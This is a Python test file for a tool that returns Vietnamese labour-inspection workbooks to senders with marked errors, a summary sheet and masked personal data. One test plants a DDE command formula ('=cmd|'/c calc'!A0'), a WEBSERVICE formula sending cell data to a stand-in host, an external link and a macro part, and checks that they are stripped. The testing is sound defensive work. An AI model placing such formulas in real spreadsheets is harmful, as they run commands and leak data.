"""The answer to a sender: marks in the sender's own workbook, and the way back after correction."""

import html
import io
import re
import zipfile

import openpyxl
import pytest
import xlsxwriter

from ingest.answers.answer_sender import SUFFIX, answer_sender
from ingest.answers.mark_notes import AUTHOR
from ingest.answers.mark_styles import FILLS
from ingest.answers.place_marks import place_marks
from ingest.answers.return_workbook import return_workbook
from ingest.check import check_file
from ingest.reader_limits import Limits
from ingest.tables.read_markers import RESULT_SHEET

HEADS = ["STT", "Xã, phường", "Số cuộc", "Số đơn vị được kiểm tra", "Số đơn vị vi phạm"]
HEADS += ["Số hành vi vi phạm"]


def write_book(path, rows, *, extra=None):
    """An inspection table by a department, made up; `extra` adds to the workbook."""
    book = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False})
    sheet = book.add_worksheet("Biểu 'm' 1")
    frame = book.add_format({"border": 1, "bg_color": "#DDEBF7"})
    sheet.write(0, 0, "SỞ NỘI VỤ")
    sheet.merge_range("A3:F3", "TỔNG HỢP KẾT QUẢ THANH TRA, KIỂM TRA PHÁP LUẬT LAO ĐỘNG")
    sheet.merge_range("A4:F4", "Quý III năm 2026")
    for column, head in enumerate(HEADS):
        sheet.write(5, column, head, frame)
    for number, row in enumerate(rows):
        for column, value in enumerate((number + 1, *row)):
            sheet.write(6 + number, column, value)
    if extra:
        extra(book, sheet)
    book.close()
    return path


GOOD = [("Xã Bảo Thắng", 3, 10, 2, 5), ("Xã Gia Phú", 1, 2, 0, 0)]
BAD = [("Xã Bảo Thắg", "=1+1", 4, 6, 7), ("Xã Gia Phú", 900, 3, 1, 2)]


def returned(path, **options):
    result = check_file(path)
    data = return_workbook(path.read_bytes(), result, Limits(), name=path.stem, **options)
    return result, data, openpyxl.load_workbook(io.BytesIO(data))


def parts_of(data):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}


def letters_of(data):
    """All parts, also letters that are written as numbers (``&#7877;``, as lxml does)."""
    return html.unescape("".join(parts_of(data).values()))


def test_wrong_cells_are_filled_and_say_what_to_do(tmp_path):
    result, _data, book = returned(write_book(tmp_path / "a.xlsx", BAD))
    assert result["outcome"] == "rejected"
    assert book.sheetnames == [RESULT_SHEET, "Biểu 'm' 1"]
    assert book.active.title == RESULT_SHEET
    sheet = book["Biểu 'm' 1"]
    for item in result["findings"]:
        cell = sheet[item["cell"]]
        assert cell.fill.fgColor.rgb == FILLS[item["severity"]]
        assert item["advice"] in cell.comment.text
        assert item["allowed"] in cell.comment.text
        assert cell.comment.author == AUTHOR
    assert {item["severity"] for item in result["findings"]} == {"error", "warning"}
    assert sheet["B6"].fill.fgColor.rgb == "FFDDEBF7"  # the sender's formats stay
    assert sheet["A7"].comment is None
    assert sheet["C7"].value == "=1+1"
    assert sheet["C7"].data_type == "s"


def test_the_first_sheet_says_it_all(tmp_path):
    result, _, book = returned(write_book(tmp_path / "a.xlsx", BAD))
    first = book[RESULT_SHEET]
    texts = [str(cell.value) for row in first.iter_rows() for cell in row if cell.value]
    assert any(text.startswith("TRẢ LẠI: có 3 lỗi") for text in texts)
    assert "Sở Nội vụ" in " ".join(texts)
    assert "Quý III/2026" in texts
    links = {cell.hyperlink.location for row in first.iter_rows() for cell in row if cell.hyperlink}
    assert {f"'Biểu ''m'' 1'!{item['cell']}" for item in result["findings"]} == links
    for item in result["findings"]:
        assert item["advice"] in texts
    assert first.page_setup.orientation == "landscape"
    assert first.freeze_panes == "A4"


def test_corrected_in_the_returned_workbook_it_is_accepted(tmp_path):
    _, _, book = returned(write_book(tmp_path / "a.xlsx", BAD))
    sheet = book["Biểu 'm' 1"]
    sheet["B7"], sheet["C7"], sheet["E7"], sheet["C8"] = "Xã Bảo Thắng", 2, 3, 9
    book.save(tmp_path / "b.xlsx")
    result, _data, again = returned(tmp_path / "b.xlsx")
    assert result["outcome"] == "accepted"
    assert not result["findings"]
    assert [t["rows_accepted"] for t in result["tables"]] == [2]
    assert again.sheetnames == [RESULT_SHEET, "Biểu 'm' 1"]
    cells = [cell for row in again["Biểu 'm' 1"].iter_rows() for cell in row]
    assert not [c for c in cells if c.comment]
    assert not [c for c in cells if c.fill.fill_type and c.fill.fgColor.rgb in FILLS.values()]


def test_charts_notes_hidden_parts_and_values_stay(tmp_path):
    def extra(book, sheet):
        chart = book.add_chart({"type": "column"})
        chart.add_series({"values": "='Biểu ''m'' 1'!$C$7:$C$8"})
        sheet.insert_chart("J3", chart)
        sheet.write_comment("B7", "Ghi chú của người gửi")
        sheet.write_formula("F10", "=SUM(F7:F8)", None, 9)
        book.add_worksheet("Ẩn").hide()
        book.define_name("Vùng", "='Biểu ''m'' 1'!$A$1")
        sheet.print_area("A1:F20")

    _, data, book = returned(write_book(tmp_path / "a.xlsx", BAD, extra=extra))
    sheet = book["Biểu 'm' 1"]
    assert len(sheet._charts) == 1
    assert "Ghi chú của người gửi" in sheet["B7"].comment.text
    assert "Cách sửa" in sheet["B7"].comment.text
    assert book["Ẩn"].sheet_state == "hidden"
    assert "Vùng" in book.defined_names
    assert sheet.print_area.endswith("$A$1:$F$20")
    assert sheet["F10"].value == "=SUM(F7:F8)"
    values = openpyxl.load_workbook(io.BytesIO(data), data_only=True)
    assert values["Biểu 'm' 1"]["F10"].value == 9
    assert [s.title for s in book if s.sheet_view.tabSelected] == [RESULT_SHEET]


def test_what_would_act_is_not_passed_on(tmp_path):
    def extra(book, sheet):
        sheet.write_formula("H7", "='[1]Sheet1'!A1", None, 7)
        sheet.write_formula("H8", '=WEBSERVICE("http://x.example/?"&A1)', None, "web")
        sheet.write_formula("H9", "=cmd|'/c calc'!A0", None, 5)
        book.define_name("Ngoài", "=[1]Sheet1!$A$1")

    path = write_book(tmp_path / "a.xlsx", BAD, extra=extra)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("xl/vbaProject.bin", b"macro")
        archive.writestr("xl/externalLinks/externalLink1.xml", "<externalLink/>")
    _, data, book = returned(path)
    parts = parts_of(data)
    assert not [name for name in parts if "vbaProject" in name or "externalLink" in name]
    assert "WEBSERVICE" not in "".join(parts.values())
    sheet = book["Biểu 'm' 1"]
    assert [sheet[cell].value for cell in ("H7", "H8", "H9")] == [7, "web", 5]
    assert "Ngoài" not in book.defined_names
    texts = [c.value for row in book[RESULT_SHEET].iter_rows() for c in row if c.value]
    assert any("macro" in str(text) for text in texts)


@pytest.mark.parametrize("delimiter", [";", ","])
def test_a_csv_comes_back_as_a_marked_workbook(tmp_path, delimiter):
    path = tmp_path / "báo cáo: quý [3].csv"
    rows = [["SỞ NỘI VỤ"], ["KẾT QUẢ THANH TRA, KIỂM TRA Quý III năm 2026"], HEADS]
    rows += [[1, "Xã Bảo Thắg", "@x", 4, 1, 1], [2, "Xã Gia Phú", 1, 3, 1, 2]]
    lines = [delimiter.join(f'"{v}"' for v in row) for row in rows]
    path.write_text("\n".join(lines), encoding="utf-8")
    result, data, book = returned(path)
    assert result["outcome"] == "rejected"
    sheet = book.worksheets[1]
    assert sheet["C4"].value == "@x"
    for item in result["findings"]:
        assert sheet[item["cell"]].fill.fgColor.rgb == FILLS[item["severity"]]
    links = [c.hyperlink for row in book[RESULT_SHEET].iter_rows() for c in row if c.hyperlink]
    assert all(link.location.startswith(f"'{sheet.title}'!") for link in links)
    (tmp_path / "lai.xlsx").write_bytes(data)
    again = check_file(tmp_path / "lai.xlsx")
    assert [f["cell"] for f in again["findings"]] == [f["cell"] for f in result["findings"]]


def test_a_refused_file_gets_the_result_sheet_alone(tmp_path):
    (tmp_path / "a.xlsx").write_bytes(b"%PDF-1.7 ...")
    result, _, book = returned(tmp_path / "a.xlsx")
    assert book[RESULT_SHEET]["A3"].value.startswith("TỪ CHỐI")
    texts = [c.value for row in book[RESULT_SHEET].iter_rows() for c in row]
    assert result["findings"][0]["advice"] in texts


def test_a_kept_copy_has_no_personal_values(tmp_path):
    book = openpyxl.Workbook()
    sheet = book.active
    rows = [["UBND XÃ BẢO THẮNG"], ["SỔ THEO DÕI TRANH CHẤP LAO ĐỘNG Quý III năm 2026"], []]
    rows += [["STT", "Ngày tiếp nhận", "Người yêu cầu", "Doanh nghiệp", "Xã, phường"]]
    rows[3] += ["Loại tranh chấp", "Nội dung"]
    rows += [[1, "05/7/2026", "Nguyễn Giả Lập, 0912345678", "Công ty A", "Xã Bảo Thắng"]]
    rows[4] += ["khác lạ", "Ông Trần Giả Lập đòi lương"]
    for row in rows:
        sheet.append(row)
    path = tmp_path / "so.xlsx"
    book.save(path)
    result, data, _ = returned(path, mask_personal=True)
    assert result["tables"][0]["personal_cells"]
    whole = letters_of(data)
    for private in ("Nguyễn Giả Lập", "0912345678", "Trần Giả Lập"):
        assert private not in whole
    assert "Công ty A" in whole
    own = letters_of(returned(path)[1])
    assert "Nguyễn Giả Lập" in own  # the sender's own copy is whole


def test_nothing_is_overwritten_and_a_failure_is_still_an_answer(tmp_path):
    path = write_book(tmp_path / "a.xlsx", BAD)
    result = check_file(path)
    first = answer_sender(path, result, tmp_path)
    second = answer_sender(path, result, tmp_path)
    assert [first.name, second.name] == [f"a{SUFFIX}.xlsx", f"a{SUFFIX} (2).xlsx"]
    path.write_bytes(b"damaged meanwhile")
    third = answer_sender(first.with_name("a.xlsx"), result, tmp_path / "new")
    assert openpyxl.load_workbook(third).sheetnames[0] == RESULT_SHEET
    assert not list(tmp_path.glob("*.tmp")) + list(tmp_path.glob(".*.tmp"))


def test_several_findings_at_a_cell_make_one_note():
    def found(severity, cell):
        return {"severity": severity, "sheet": "S", "cell": cell, "found": "x", "allowed": None,
                "message": f"Sai {severity}. Hãy sửa.", "advice": "Hãy sửa."}  # fmt: skip

    items = [found("warning", "B2"), found("error", "B2"), found("note", "A5:C9")]
    marks = place_marks([*items, found("warning", "7:8")])["S"]
    assert marks.fills == dict.fromkeys([(4, 0), (4, 1), (4, 2)], "note") | {(1, 1): "error"}
    assert marks.rows == {6: "warning", 7: "warning"}
    assert re.findall("LỖI|LƯU Ý", marks.notes[1, 1]) == ["LỖI", "LƯU Ý"]
    assert set(marks.notes) == {(1, 1), (4, 0), (6, 0)}
